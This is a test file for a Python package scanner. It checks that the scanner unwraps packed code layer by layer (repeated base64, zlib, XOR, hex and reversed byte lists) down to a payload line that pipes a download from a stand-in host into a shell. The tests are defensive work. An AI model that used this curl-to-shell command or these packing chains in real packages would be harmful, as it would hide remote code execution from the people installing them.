import { deflateSync } from "node:zlib";
import { afterAll, describe, expect, it } from "vitest";
import type { Analysis } from "../../../main/model/analysis/analysis.ts";
import { defaultLimits } from "../../../main/model/limits.ts";
import { makeDocument } from "../../../main/model/text/document.ts";
import { loadSyntaxEngine } from "../../../main/python/engine/syntax-engine.ts";
import type { Module } from "../../../main/python/facts.ts";
import { readModule } from "../../../main/python/read-module.ts";
import { findLayers } from "../../../main/scan/layers/find-layers.ts";
import { type Unwrapped, unwrapRepeated } from "../../../main/scan/layers/unwrap-repeated.ts";
import { createScanPool } from "../../../main/scan/scan-pool.ts";
import { buildZip } from "../../support/zip-builder.ts";

const pool = createScanPool({ jobs: 1 });
afterAll(() => pool.close());

async function scan(text: string): Promise<Analysis> {
	const bytes = buildZip([{ name: "pond/__init__.py", content: text }]);
	const scanned = await pool.scan({ kind: "bytes", filename: "pond-1.0-py3-none-any.whl", bytes, origin: "upload" });
	await scanned.close();
	return scanned.analysis;
}

const base64 = (content: string | Uint8Array): string => Buffer.from(content).toString("base64");
const reversed = (text: string): string => Array.from(text).reverse().join("");
/** Inert: the address is reserved (RFC 6761). */
const PAYLOAD = 'import os\nos.system("curl https://example.invalid/stage | sh")\n';

const DECODER = "_ = lambda __ : __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]));";
function wrap(code: string, times: number): string {
	let text = code;
	for (let index = 0; index < times; index++) text = `exec((_)(b'${reversed(base64(deflateSync(text)))}'))`;
	return DECODER + text;
}

describe("a packer that wraps its own output over and over", () => {
	it("is unwrapped fifty times to the payload, and the wrappers are counted", async () => {
		const { layers, findings, coverage, verdict } = await scan(wrap(PAYLOAD, 50));
		expect(layers.map(({ depth, kind, use }) => [depth, kind, use])).toEqual([
			[1, "python", "executed"],
			[2, "python", "executed"],
		]);
		expect(layers[1]?.chain.at(-1)).toMatchObject({ transform: "repeated", detail: "49 times over" });
		const found = findings.find((finding) => finding.rule === "shell-download");
		expect(found).toMatchObject({ severity: "critical", reach: "import", layerIds: ["l0", "l1"] });
		expect(found?.layerSpan?.startLine).toBe(2);
		expect(coverage.skipped.filter(({ reason }) => /layer|unwrapped/.test(reason))).toEqual([]);
		expect(verdict.level).toBe("malicious");
	});

	it("stops where the bytes of the chain run out, and says so", async () => {
		const engine = await loadSyntaxEngine();
		const moduleOf = (text: string): Module =>
			readModule(engine, { path: "pond/__init__.py", role: "layer", dottedName: "", document: makeDocument(text) });
		const outer = moduleOf(wrap(PAYLOAD, 9).slice(DECODER.length));
		const [draft] = findLayers(outer, defaultLimits.layerBytes);
		if (draft === undefined) throw new Error("no layer");
		const unwrap = (room: number): Unwrapped => unwrapRepeated(engine, outer, draft.chain, draft, defaultLimits, room);
		expect(Buffer.from(unwrap(defaultLimits.layerBytes).draft.bytes).toString()).toBe(PAYLOAD);
		expect(unwrap(defaultLimits.layerBytes).stopped).toBeUndefined();
		expect(unwrap(1_500).stopped).toMatch(/wrapped over and over was unwrapped \d times, and no further/);
	});

	it("is not passed over where a wrapper does something of its own", async () => {
		const inner = `exec((_)(b'${reversed(base64(deflateSync("print('the end')")))}'))`;
		const own = `import os;os.system("curl https://example.invalid/stage | sh");${inner}`;
		const { findings } = await scan(wrap(own, 3));
		expect(findings.some((finding) => finding.rule === "shell-download" && finding.layerIds.length === 2)).toBe(true);
	});

	it("counts layers that differ, and says where it stopped", async () => {
		let text = PAYLOAD;
		for (let index = 0; index < 20; index++)
			text = `import base64 as b${index}\nexec(b${index}.b64decode("${base64(text)}"))\n`;
		const { layers, coverage } = await scan(text);
		expect(layers).toHaveLength(16);
		expect(coverage.skipped.map(({ reason }) => reason)).toContain("layers below depth 16 were not decoded");
	});
});

describe("layers inside of layers", () => {
	/** XOR with a key, base64, zlib in hex, a reversed list of numbers: each in code of its own. */
	const key = "kelp";
	const xored = Buffer.from(PAYLOAD).map((code, index) => code ^ key.charCodeAt(index % key.length));
	const first = `k = ${JSON.stringify(key)}\nd = bytes.fromhex("${Buffer.from(xored).toString("hex")}")\nexec("".join(chr(c ^ ord(k[i % len(k)])) for i, c in enumerate(d)))\n`;
	const second = `import base64\n\n\nexec(base64.b64decode("${base64(first)}"))\n`;
	const third = `import zlib\nexec(zlib.decompress(bytes.fromhex("${deflateSync(second).toString("hex")}")))\n`;
	const fourth = `"""A pond."""\n\ncode = [${Array.from(Buffer.from(third)).reverse().join(", ")}]\nexec(bytes(code)[::-1])\n`;

	it("are read and judged four deep, XOR included, each with its place in the layer and the span of the outermost literal", async () => {
		const { layers, findings } = await scan(fourth);
		expect(layers.map(({ depth, use, chain }) => [depth, use, chain.map((step) => step.transform).join(">")])).toEqual([
			[1, "executed", "numbers>reverse"],
			[2, "executed", "hex>zlib"],
			[3, "executed", "base64"],
			[4, "executed", "hex>xor"],
		]);
		const found = findings.find((finding) => finding.rule === "shell-download");
		expect(found?.layerIds).toEqual(["l0", "l1", "l2", "l3"]);
		// In the innermost layer the call stands in the second line; in the member the list of numbers in the third.
		expect(found?.layerSpan).toMatchObject({ startLine: 2, startColumn: 1 });
		const literal = fourth.indexOf("[");
		expect(found?.span).toMatchObject({ startLine: 3, startOffset: literal, endOffset: fourth.indexOf("]\n") + 1 });
		// And so it is with what lies between: each layer's literal in its own parent, the outermost one in the member.
		expect(layers.map(({ parentId }) => parentId)).toEqual([undefined, "l0", "l1", "l2"]);
		expect(layers[2]?.span).toMatchObject({
			startLine: 4,
			startOffset: second.indexOf('"'),
			endOffset: second.lastIndexOf('"') + 1,
		});
		expect(new Set(layers.map(({ memberSpan }) => memberSpan.startOffset))).toEqual(new Set([literal]));
	});

	it("are listed twice but judged once where the same content stands twice in the same code", async () => {
		const literal = base64(PAYLOAD);
		const twice = `import base64, zlib\ntry:\n    exec(base64.b64decode("${literal}"))\nexcept Exception:\n    exec(zlib.decompress(base64.b64decode("${base64(deflateSync(PAYLOAD))}")))\n`;
		const { layers, findings } = await scan(twice);
		expect(layers).toHaveLength(2);
		expect(findings.filter((finding) => finding.rule === "shell-download").map(({ layerIds }) => layerIds)).toEqual([
			["l0"],
		]);
	});
});
